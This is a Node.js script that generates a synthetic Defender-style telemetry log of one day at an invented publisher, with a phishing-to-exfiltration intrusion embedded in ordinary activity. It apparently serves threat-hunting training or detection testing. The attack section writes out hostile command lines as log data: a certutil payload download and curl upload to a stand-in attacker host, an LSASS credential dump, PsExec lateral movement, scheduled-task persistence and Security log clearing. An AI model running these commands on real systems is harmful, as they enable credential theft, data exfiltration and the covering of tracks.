// Writes incident.ndjson: one quiet day at a small publisher, and one attack in it. Everything is invented, with names
// of example domains and addresses of documentation networks. The same text comes out each time:
//   node sample/generate.mjs
import { createHash } from 'node:crypto';
import { writeFileSync } from 'node:fs';

const END = Date.UTC(2026, 0, 15, 16, 40, 0);
const MINUTE = 60_000;
const DOMAIN = 'LUMEN';
const TENANT = '3f0c7a52-8d19-4a6e-b1f4-6c2e9d5b7a10';

let seed = 20260115;
function random() {
  seed = (Math.imul(seed, 1664525) + 1013904223) >>> 0;
  return seed / 2 ** 32;
}
const pick = (list) => list[Math.floor(random() * list.length)];
const hash = (kind, text) => createHash(kind).update(text).digest('hex');

const device = (name, ip, os, user) => ({
  name: `${name}.lumen-press.example`,
  id: hash('sha1', name),
  ip,
  os,
  user,
});
const mara = device('ws-mara', '10.20.0.11', 'Windows11', 'mara.lind');
const tomas = device('ws-tomas', '10.20.0.12', 'Windows11', 'tomas.berg');
const priya = device('ws-priya', '10.20.0.13', 'Windows11', 'priya.nair');
const jonas = device('lt-jonas', '10.20.0.14', 'Windows10', 'jonas.falk');
const files = device('srv-files', '10.20.0.5', 'WindowsServer2022', 'svc-backup');
const dc = device('srv-dc01', '10.20.0.4', 'WindowsServer2022', 'SYSTEM');
const people = [mara, tomas, priya, jonas];
const devices = [...people, files, dc];
const EVIL_IP = '198.51.100.23';
const EVIL_DOMAIN = 'cdn.parcel-tracking.example';

const records = [];
let reportId = 1000;
function emit(table, minutesBeforeEnd, properties) {
  const ms = END - minutesBeforeEnd * MINUTE;
  const ticks = String(Math.floor(random() * 10_000)).padStart(4, '0');
  const timestamp = new Date(ms).toISOString().replace('Z', `${ms === END ? '0000' : ticks}Z`);
  records.push({
    ms,
    line: {
      time: timestamp,
      tenantId: TENANT,
      operationName: 'Publish',
      category: `AdvancedHunting-${table}`,
      properties: { Timestamp: timestamp, ...properties, ReportId: reportId++, SampleStory: 'lumen' },
    },
  });
}

const on = (where) => ({ DeviceId: where.id, DeviceName: where.name });
const as = (name) => ({ AccountDomain: DOMAIN, AccountName: name });
const starter = (name, process) => ({
  InitiatingProcessAccountDomain: DOMAIN,
  InitiatingProcessAccountName: name,
  InitiatingProcessFileName: process.file,
  InitiatingProcessFolderPath: `${process.folder}\\${process.file}`,
  InitiatingProcessCommandLine: process.line ?? process.file,
  InitiatingProcessId: process.pid ?? 700 + process.file.length * 37,
});
const proc = (file, folder, line, pid) => ({ file, folder, line: line ?? file, pid });
const SYSTEM32 = 'C:\\Windows\\System32';
const OFFICE = 'C:\\Program Files\\Microsoft Office\\root\\Office16';
const explorer = proc('explorer.exe', 'C:\\Windows', 'C:\\Windows\\Explorer.EXE', 4312);
const services = proc('services.exe', SYSTEM32, 'C:\\Windows\\system32\\services.exe', 812);

function started(at, where, who, parent, child, elevated = false) {
  emit('DeviceProcessEvents', at, {
    ...on(where),
    ActionType: 'ProcessCreated',
    FileName: child.file,
    FolderPath: `${child.folder}\\${child.file}`,
    SHA1: hash('sha1', child.file),
    SHA256: hash('sha256', child.file),
    ProcessId: child.pid ?? 1000 + Math.floor(random() * 20_000),
    ProcessCommandLine: child.line,
    ProcessIntegrityLevel: elevated ? 'High' : 'Medium',
    ...as(who),
    ...starter(who, parent),
  });
}
function connected(at, where, who, process, ip, port, url = '', action = 'ConnectionSuccess') {
  emit('DeviceNetworkEvents', at, {
    ...on(where),
    ActionType: action,
    RemoteIP: ip,
    RemotePort: port,
    RemoteUrl: url,
    LocalIP: where.ip,
    LocalPort: 49_152 + Math.floor(random() * 16_000),
    Protocol: 'Tcp',
    RemoteIPType: ip.startsWith('10.') ? 'Private' : 'Public',
    ...starter(who, process),
  });
}
function wrote(at, where, who, process, folder, name, size, extra = {}) {
  emit('DeviceFileEvents', at, {
    ...on(where),
    ActionType: 'FileCreated',
    FileName: name,
    FolderPath: `${folder}\\${name}`,
    SHA256: hash('sha256', name),
    FileSize: size,
    ...starter(who, process),
    ...extra,
  });
}
function loggedOn(at, where, who, type, from, action = 'LogonSuccess') {
  emit('DeviceLogonEvents', at, {
    ...on(where),
    ActionType: action,
    LogonType: type,
    ...as(who),
    Protocol: type === 'Network' ? 'NTLM' : 'Kerberos',
    FailureReason: action === 'LogonFailed' ? 'InvalidUserNameOrPassword' : '',
    RemoteIP: from?.ip ?? '',
    RemoteDeviceName: from?.name.split('.')[0] ?? '',
    LogonId: 100_000 + Math.floor(random() * 900_000),
  });
}
function mailed(at, sender, display, person, subject, attachments, ip) {
  const id = hash('md5', `${at}${sender}${person.user}`).replace(
    /^(.{8})(.{4})(.{4})(.{4})(.{12})$/,
    '$1-$2-$3-$4-$5',
  );
  const recipient = `${person.user}@lumen-press.example`;
  emit('EmailEvents', at, {
    NetworkMessageId: id,
    InternetMessageId: `<${id}@${sender.split('@')[1]}>`,
    SenderFromAddress: sender,
    SenderMailFromAddress: sender,
    SenderDisplayName: display,
    SenderFromDomain: sender.split('@')[1],
    SenderIPv4: ip,
    RecipientEmailAddress: recipient,
    Subject: subject,
    EmailDirection: sender.endsWith('lumen-press.example') ? 'Intra-org' : 'Inbound',
    DeliveryAction: 'Delivered',
    DeliveryLocation: 'Inbox/folder',
    AttachmentCount: attachments.length,
    UrlCount: 0,
  });
  for (const name of attachments) {
    emit('EmailAttachmentInfo', at, {
      NetworkMessageId: id,
      SenderFromAddress: sender,
      RecipientEmailAddress: recipient,
      FileName: name,
      FileType: name.split('.').pop(),
      SHA256: hash('sha256', name),
      FileSize: 41_812,
    });
  }
}

background();
attack();
records.sort((a, b) => a.ms - b.ms);
const text = records.map(({ line }) => `${JSON.stringify(line)}\n`).join('');
writeFileSync(new URL('incident.ndjson', import.meta.url), text);
console.error(`${records.length} events, ${text.length} bytes`);

/** Mail, macro, encoded PowerShell, download, beacon, credentials, lateral movement, theft. */
function attack() {
  const at = (hours, minutes = 0, seconds = 0) => hours * 60 - minutes - seconds / 60;
  const lure = 'Delivery_note_4471.xlsm';
  const outlook = proc('OUTLOOK.EXE', OFFICE, `"${OFFICE}\\OUTLOOK.EXE"`, 6120);
  const excel = proc(
    'EXCEL.EXE',
    OFFICE,
    `"${OFFICE}\\EXCEL.EXE" "C:\\Users\\mara.lind\\Downloads\\${lure}"`,
    7044,
  );
  mailed(
    at(7),
    'notice@parcel-tracking.example',
    'Parcel Tracking',
    mara,
    'Your parcel 4471 could not be delivered',
    [lure],
    '203.0.113.77',
  );
  mailed(
    at(7, 1),
    'notice@parcel-tracking.example',
    'Parcel Tracking',
    tomas,
    'Your parcel 4472 could not be delivered',
    ['Delivery_note_4472.xlsm'],
    '203.0.113.77',
  );
  wrote(at(7, 22), mara, 'mara.lind', outlook, 'C:\\Users\\mara.lind\\Downloads', lure, 41_812);
  started(at(7, 23), mara, 'mara.lind', outlook, excel);

  const script = `certutil -urlcache -split -f http://${EVIL_DOMAIN}/upd.dat C:\\Users\\Public\\upd.exe`;
  const encoded = Buffer.from(script, 'utf16le').toString('base64');
  const powershell = proc(
    'powershell.exe',
    `${SYSTEM32}\\WindowsPowerShell\\v1.0`,
    `powershell.exe -nop -w hidden -enc ${encoded}`,
    7312,
  );
  const certutil = proc('certutil.exe', SYSTEM32, script, 7388);
  const upd = proc('upd.exe', 'C:\\Users\\Public', 'C:\\Users\\Public\\upd.exe', 7460);
  started(at(7, 24), mara, 'mara.lind', excel, powershell);
  started(at(7, 24, 3), mara, 'mara.lind', powershell, certutil);
  connected(at(7, 24, 5), mara, 'mara.lind', certutil, EVIL_IP, 80, `http://${EVIL_DOMAIN}/upd.dat`);
  wrote(at(7, 24, 6), mara, 'mara.lind', certutil, 'C:\\Users\\Public', 'upd.exe', 287_744, {
    FileOriginUrl: `http://${EVIL_DOMAIN}/upd.dat`,
    FileOriginIP: EVIL_IP,
  });
  started(at(7, 25), mara, 'mara.lind', powershell, upd);
  emit('DeviceRegistryEvents', at(7, 25, 20), {
    ...on(mara),
    ActionType: 'RegistryValueSet',
    RegistryKey: 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
    RegistryValueName: 'Updater',
    RegistryValueType: 'String',
    RegistryValueData: 'C:\\Users\\Public\\upd.exe',
    ...starter('mara.lind', upd),
  });
  for (let minutes = at(7, 26); minutes >= 0; minutes -= 5) {
    connected(minutes, mara, 'mara.lind', upd, EVIL_IP, 443, EVIL_DOMAIN);
  }

  const shell = proc('cmd.exe', SYSTEM32, 'cmd.exe', 7702);
  started(at(6, 10), mara, 'mara.lind', upd, shell);
  for (const [i, line] of [
    'whoami /all',
    'net group "Domain Admins" /domain',
    'nltest /dclist:lumen-press',
    'net view \\\\srv-files',
  ].entries()) {
    started(at(6, 11, i * 20), mara, 'mara.lind', shell, proc(`${line.split(' ')[0]}.exe`, SYSTEM32, line));
  }
  const lsass = proc(
    'rundll32.exe',
    SYSTEM32,
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Users\\Public\\l.dmp full',
    7810,
  );
  started(at(5, 30), mara, 'mara.lind', shell, lsass, true);
  emit('DeviceEvents', at(5, 30, 1), {
    ...on(mara),
    ActionType: 'OpenProcessApiCall',
    FileName: 'lsass.exe',
    FolderPath: `${SYSTEM32}\\lsass.exe`,
    ProcessId: 652,
    AdditionalFields: JSON.stringify({ DesiredAccess: 2097151 }),
    ...starter('mara.lind', lsass),
  });
  wrote(at(5, 30, 3), mara, 'mara.lind', lsass, 'C:\\Users\\Public', 'l.dmp', 48_211_968);

  const psexec = proc(
    'PsExec64.exe',
    'C:\\Users\\Public',
    'PsExec64.exe -accepteula \\\\srv-files -u LUMEN\\svc-backup -s cmd.exe',
    7904,
  );
  const psexesvc = proc('PSEXESVC.exe', 'C:\\Windows', 'C:\\Windows\\PSEXESVC.exe', 3120);
  const remoteShell = proc('cmd.exe', SYSTEM32, '"cmd.exe"', 3188);
  loggedOn(at(4, 40), files, 'svc-backup', 'Network', mara, 'LogonFailed');
  started(at(4, 41), mara, 'mara.lind', shell, psexec, true);
  connected(at(4, 41, 1), mara, 'mara.lind', psexec, files.ip, 445);
  loggedOn(at(4, 41, 2), files, 'svc-backup', 'Network', mara);
  wrote(
    at(4, 41, 3),
    files,
    'SYSTEM',
    proc('ntoskrnl.exe', SYSTEM32),
    'C:\\Windows',
    'PSEXESVC.exe',
    189_792,
  );
  emit('DeviceEvents', at(4, 41, 4), {
    ...on(files),
    ActionType: 'ServiceInstalled',
    FileName: 'PSEXESVC.exe',
    FolderPath: 'C:\\Windows\\PSEXESVC.exe',
    AdditionalFields: JSON.stringify({ ServiceName: 'PSEXESVC', ServiceAccount: 'LocalSystem' }),
    ...starter('SYSTEM', services),
  });
  started(at(4, 41, 5), files, 'SYSTEM', services, psexesvc, true);
  started(at(4, 41, 6), files, 'SYSTEM', psexesvc, remoteShell, true);

  const pack = proc(
    '7z.exe',
    'C:\\ProgramData',
    '7z.exe a -pSpring C:\\ProgramData\\m.7z D:\\Manuscripts',
    3304,
  );
  const curl = proc(
    'curl.exe',
    SYSTEM32,
    `curl.exe -T C:\\ProgramData\\m.7z https://${EVIL_DOMAIN}/in`,
    3390,
  );
  started(at(3, 30), files, 'SYSTEM', remoteShell, pack, true);
  wrote(at(3, 41), files, 'SYSTEM', pack, 'C:\\ProgramData', 'm.7z', 731_906_048);
  started(at(3, 50), files, 'SYSTEM', remoteShell, curl, true);
  connected(at(3, 50, 2), files, 'SYSTEM', curl, EVIL_IP, 443, EVIL_DOMAIN);
  started(
    at(2, 20),
    files,
    'SYSTEM',
    remoteShell,
    proc(
      'schtasks.exe',
      SYSTEM32,
      'schtasks /create /tn "Index Rebuild" /sc daily /st 03:10 /ru SYSTEM /tr C:\\ProgramData\\upd.exe',
    ),
    true,
  );
  started(
    at(2, 21),
    files,
    'SYSTEM',
    remoteShell,
    proc('wevtutil.exe', SYSTEM32, 'wevtutil cl Security'),
    true,
  );
}

/** 24 hours of ordinary work. */
function background() {
  const browser = (person) =>
    proc(
      'msedge.exe',
      'C:\\Program Files (x86)\\Microsoft\\Edge\\Application',
      'msedge.exe --no-startup-window',
      5000 + person.name.length,
    );
  const svchost = proc('svchost.exe', SYSTEM32, 'svchost.exe -k netsvcs -p', 1204);
  const programs = [
    proc('WINWORD.EXE', OFFICE, `"${OFFICE}\\WINWORD.EXE" /n`),
    proc('notepad.exe', SYSTEM32),
    proc('Teams.exe', 'C:\\Program Files\\Teams', 'Teams.exe --type=renderer'),
    proc('InDesign.exe', 'C:\\Program Files\\Layout', 'InDesign.exe'),
    proc('msedge.exe', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application', 'msedge.exe --type=renderer'),
    proc('SearchProtocolHost.exe', SYSTEM32, 'SearchProtocolHost.exe Global\\UsGthrFltPipeMssGthrPipe'),
  ];
  const sites = [
    ['203.0.113.10', 'news.example.org'],
    ['203.0.113.20', 'mail.example.com'],
    ['203.0.113.31', 'fonts.example.net'],
    ['203.0.113.42', 'update.example.com'],
  ];
  for (const where of devices) {
    emit('DeviceInfo', 1435 - devices.indexOf(where), {
      ...on(where),
      OSPlatform: where.os,
      OSArchitecture: '64-bit',
      PublicIP: '192.0.2.44',
      DeviceType: where.os.includes('Server') ? 'Server' : 'Workstation',
      OnboardingStatus: 'Onboarded',
      SensorHealthState: 'Active',
      MachineGroup: where.os.includes('Server') ? 'Servers' : 'Editors',
      LoggedOnUsers: JSON.stringify([{ UserName: where.user, DomainName: DOMAIN }]),
    });
  }
  for (let i = 0; i < 290; i++) {
    const person = pick(people);
    started(5 + random() * 1400, person, person.user, explorer, pick(programs));
  }
  for (let i = 0; i < 290; i++) {
    const person = pick(people);
    const [ip, url] = pick(sites);
    connected(5 + random() * 1400, person, person.user, browser(person), ip, 443, url);
  }
  for (let i = 0; i < 90; i++) {
    const where = pick(devices);
    started(5 + random() * 1400, where, 'SYSTEM', services, svchost, true);
  }
  for (let i = 0; i < 100; i++) {
    const person = pick(people);
    wrote(
      5 + random() * 1400,
      person,
      person.user,
      proc('WINWORD.EXE', OFFICE),
      `C:\\Users\\${person.user}\\Documents`,
      `chapter-${1 + Math.floor(random() * 40)}.docx`,
      20_000 + Math.floor(random() * 90_000),
    );
  }
  for (const [i, person] of people.entries()) {
    loggedOn(560 - i * 7, person, person.user, 'Interactive');
    for (let n = 0; n < 8; n++) loggedOn(10 + random() * 540, files, person.user, 'Network', person);
  }
  for (let i = 0; i < 24; i++) {
    loggedOn(5 + i * 60, files, 'svc-backup', 'Service');
    const person = pick(people);
    mailed(
      8 + i * 58,
      pick(['editor@lumen-press.example', 'orders@paper-mill.example', 'agent@books.example']),
      'Colleague',
      person,
      pick(['Proofs', 'Cover', 'Meeting', 'Paper order']),
      i % 3 === 0 ? ['proof.pdf'] : [],
      '203.0.113.20',
    );
  }
  for (let i = 0; i < 40; i++) {
    const where = pick(devices);
    emit('DeviceRegistryEvents', 5 + random() * 1400, {
      ...on(where),
      ActionType: 'RegistryValueSet',
      RegistryKey: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate',
      RegistryValueName: 'LastScan',
      RegistryValueType: 'String',
      RegistryValueData: String(i),
      ...starter('SYSTEM', svchost),
    });
  }
}
